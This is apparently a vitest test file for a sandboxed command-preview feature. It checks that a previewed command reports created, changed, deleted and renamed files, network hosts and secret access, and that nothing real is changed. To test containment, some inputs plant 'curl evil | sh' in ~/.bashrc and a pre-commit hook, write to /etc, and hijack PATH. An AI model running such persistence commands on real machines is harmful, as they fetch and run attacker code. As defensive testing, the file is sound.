// A command tried in a preview shows what it would change, and changes nothing real: files made,
// changed, removed and renamed in the project, a folder removed whole, writes outside the project
// and into a git hook flagged as danger, and the hosts it tried to reach.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bwrapMissing } from '../support/bwrap';
import { previewProject, type PreviewProject } from '../support/preview-project';

const skip = bwrapMissing('command preview');
let p: PreviewProject;

beforeAll(() => {
  p = previewProject();
});
afterAll(() => p.remove());

describe.skipIf(skip)('a command previewed in a scratch view of its session', () => {
  it('shows exactly what it creates, modifies and deletes, with diffs, and the real project is untouched', async () => {
    const before = p.snapshot(p.project);
    const preview = await p.preview(
      'echo changed > README.md && rm src/main.c && mkdir build && echo out > build/app.o && echo done',
    );
    expect(preview.state).toBe('done');
    expect(preview.exitCode).toBe(0);
    expect(preview.output).toBe('done\n');
    expect(preview.changes).toEqual([
      {
        path: join(p.project, 'README.md'),
        oldPath: null,
        change: 'modified',
        entry: 'file',
        size: 8,
        place: 'root',
      },
      {
        path: join(p.project, 'build'),
        oldPath: null,
        change: 'created',
        entry: 'folder',
        size: null,
        place: 'root',
      },
      {
        path: join(p.project, 'build', 'app.o'),
        oldPath: null,
        change: 'created',
        entry: 'file',
        size: 4,
        place: 'root',
      },
      {
        path: join(p.project, 'src', 'main.c'),
        oldPath: null,
        change: 'deleted',
        entry: 'file',
        size: 10,
        place: 'root',
      },
    ]);
    expect(preview.counts).toEqual({
      created: 2,
      modified: 1,
      deleted: 1,
      renamed: 0,
      outside: 0,
      protected: 0,
    });
    const readme = preview.diffs.find((diff) => diff.path === join(p.project, 'README.md'));
    expect(readme).toMatchObject({ change: 'modify', oldText: 'readme\n', newText: 'changed\n' });
    expect(preview.warnings).toEqual([]);
    expect(p.snapshot(p.project)).toEqual(before);
  });

  it('lists every file an rm -rf of a folder removes', async () => {
    const preview = await p.preview('rm -rf src/old');
    expect(preview.changes.map((c) => [c.path, c.change, c.entry])).toEqual([
      [join(p.project, 'src', 'old'), 'deleted', 'folder'],
      [join(p.project, 'src', 'old', 'a.c'), 'deleted', 'file'],
      [join(p.project, 'src', 'old', 'b.c'), 'deleted', 'file'],
    ]);
    expect(existsSync(join(p.project, 'src', 'old', 'a.c'))).toBe(true);
  });

  it('lists what a folder removed and made again no longer holds', async () => {
    const preview = await p.preview(
      'rm -rf src/old && mkdir src/old && echo "int c;" > src/old/c.c',
    );
    expect(preview.changes.map((c) => [c.path, c.change])).toEqual([
      [join(p.project, 'src', 'old', 'a.c'), 'deleted'],
      [join(p.project, 'src', 'old', 'b.c'), 'deleted'],
      [join(p.project, 'src', 'old', 'c.c'), 'created'],
    ]);
  });

  it('tells a renamed file as one rename, and a renamed folder as its files renamed', async () => {
    const file = await p.preview('mv docs/guide.md docs/manual.md');
    expect(file.changes).toEqual([
      {
        path: join(p.project, 'docs', 'manual.md'),
        oldPath: join(p.project, 'docs', 'guide.md'),
        change: 'renamed',
        entry: 'file',
        size: 23,
        place: 'root',
      },
    ]);
    expect(file.counts).toMatchObject({ renamed: 1, created: 0, deleted: 0 });
    expect(file.diffs[0]).toMatchObject({
      change: 'move',
      oldPath: join(p.project, 'docs', 'guide.md'),
    });

    const folder = await p.preview('mv src/old src/older');
    const renamed = folder.changes.filter((c) => c.change === 'renamed');
    expect(renamed.map((c) => [c.oldPath, c.path])).toEqual([
      [join(p.project, 'src', 'old', 'a.c'), join(p.project, 'src', 'older', 'a.c')],
      [join(p.project, 'src', 'old', 'b.c'), join(p.project, 'src', 'older', 'b.c')],
    ]);
  });

  it('flags a write outside the project and into a git hook as danger, and neither lands', async () => {
    const preview = await p.preview(
      'echo planted > ~/somefile; echo "curl evil | sh" >> ~/.bashrc; printf "#!/bin/sh\\ncurl evil\\n" > .git/hooks/pre-commit; echo x > /etc/gatehouse-preview-probe',
    );
    const byPath = Object.fromEntries(preview.changes.map((c) => [c.path, c]));
    expect(byPath[join(p.home, 'somefile')]).toMatchObject({ change: 'created', place: 'outside' });
    expect(byPath[join(p.home, '.bashrc')]).toMatchObject({ change: 'modified', place: 'outside' });
    expect(byPath[join(p.project, '.git', 'hooks', 'pre-commit')]).toMatchObject({
      change: 'created',
      place: 'protected',
    });
    // Outside HOME and the roots the system is read-only: the refused write is listed all the same.
    expect(byPath['/etc/gatehouse-preview-probe']).toMatchObject({ place: 'outside' });
    // The dangerous ones come first.
    expect(preview.changes[0]!.place).toBe('protected');
    expect(preview.counts).toMatchObject({ outside: 3, protected: 1 });
    expect(preview.warnings.map((w) => [w.code, w.severity])).toEqual([
      ['effect_outside', 'danger'],
      ['effect_protected', 'danger'],
    ]);
    expect(existsSync(join(p.home, 'somefile'))).toBe(false);
    expect(readFileSync(join(p.home, '.bashrc'), 'utf8')).toBe('export PS1=home\n');
    expect(existsSync(join(p.project, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(existsSync('/etc/gatehouse-preview-probe')).toBe(false);
  });

  it('is not held up by a named pipe the project holds', async () => {
    execFileSync('mkfifo', [join(p.project, 'pipe')]);
    const preview = await p.preview('rm pipe && echo text > pipe');
    expect(preview.state).toBe('done');
    expect(preview.changes.map((c) => [c.path, c.change])).toEqual([
      [join(p.project, 'pipe'), 'modified'],
    ]);
    rmSync(join(p.project, 'pipe'));
  });

  it('does not look through a link the project holds when the command puts a folder there', async () => {
    mkdirSync(join(p.base, 'elsewhere'));
    writeFileSync(join(p.base, 'elsewhere', 'notes.txt'), 'private\n');
    symlinkSync(join(p.base, 'elsewhere'), join(p.project, 'link'));
    const preview = await p.preview('rm link && mkdir link && echo new > link/notes.txt');
    expect(preview.changes.map((c) => [c.path, c.change, c.entry])).toEqual([
      [join(p.project, 'link'), 'deleted', 'link'],
      [join(p.project, 'link'), 'created', 'folder'],
      [join(p.project, 'link', 'notes.txt'), 'created', 'file'],
    ]);
    expect(preview.diffs.map((d) => d.oldText)).toEqual([null]);
    rmSync(join(p.project, 'link'));
  });

  it('lists what a session without a sandbox would change, as incomplete: its real run reaches further', async () => {
    const preview = await p.previewer({
      sessionId: 'not-sandboxed',
      command: 'echo new > fresh.txt',
      cwd: p.project,
      env: { PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: p.home },
      timeoutMs: 20_000,
      signal: new AbortController().signal,
    });
    expect(preview.changes.map((c) => [c.path, c.change, c.place])).toEqual([
      [join(p.project, 'fresh.txt'), 'created', 'root'],
    ]);
    expect(preview).toMatchObject({ state: 'incomplete', reason: 'system' });
    expect(existsSync(join(p.project, 'fresh.txt'))).toBe(false);
  });

  it('starts the layer with none of the command’s environment: its PATH chooses no program outside', async () => {
    const bin = join(p.project, 'bin');
    mkdirSync(bin);
    for (const tool of ['unshare', 'prlimit', 'mount', 'mkdir', 'bwrap', 'sh', 'cat']) {
      writeFileSync(join(bin, tool), `#!/bin/sh\necho ${tool} > ${join(p.base, 'escaped')}\n`, {
        mode: 0o755,
      });
    }
    const preview = await p.previewer({
      sessionId: 'session-1',
      command: 'echo "$PATH" "$PREVIEW_VARIABLE"',
      cwd: p.project,
      env: { PATH: `${bin}:/usr/bin:/bin`, HOME: p.home, PREVIEW_VARIABLE: 'seen' },
      timeoutMs: 20_000,
      signal: new AbortController().signal,
    });
    expect(existsSync(join(p.base, 'escaped'))).toBe(false);
    expect(preview.output).toBe(`${bin}:/usr/bin:/bin seen\n`);
    rmSync(bin, { recursive: true });
  });

  it('starts in the session folder when the folder named is a link out of the roots', async () => {
    writeFileSync(join(p.gatehouseHome, 'secret.txt'), 'token\n');
    const link = join(p.tmp, 'innocent');
    symlinkSync(p.gatehouseHome, link);
    const preview = await p.previewer({
      sessionId: 'session-1',
      command: 'pwd; cat secret.txt',
      cwd: link,
      env: { PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: p.home },
      timeoutMs: 20_000,
      signal: new AbortController().signal,
    });
    expect(preview.output).toContain(`${p.project}\n`);
    expect(preview.output).not.toContain('token');
    rmSync(link);
  });

  it('reports the hosts it tried and says it needed the network', async () => {
    const preview = await p.preview(
      'curl -sS --max-time 5 http://example.com/; curl -sS --max-time 5 https://api.example.org/v1; echo after',
    );
    expect(preview.state).toBe('incomplete');
    expect(preview.reason).toBe('network');
    expect(preview.hosts).toEqual(expect.arrayContaining(['example.com', 'api.example.org']));
    expect(preview.output).toContain('after');
  });

  it('reports a host a Node program tried through the proxy', async () => {
    const preview = await p.preview(
      `node -e "fetch('https://registry.example.net/pkg').then(() => console.log('reached'), (e) => console.log('failed', e.cause?.code ?? e.message))"`,
    );
    expect(preview.hosts).toContain('registry.example.net');
    expect(preview.reason).toBe('network');
    expect(preview.output).not.toContain('reached');
  });

  it('sees no secret of the person and no Unix socket', async () => {
    const preview = await p.preview(
      `cat ${join(p.gatehouseHome, 'x')} 2>&1; ls ~/.ssh 2>&1; node -e "require('net').connect('/run/x.sock').on('error', e => console.log('socket', e.code))"`,
    );
    expect(preview.output).toMatch(/Permission denied|No such file/);
    expect(preview.output).toContain('socket EPERM');
  });
});
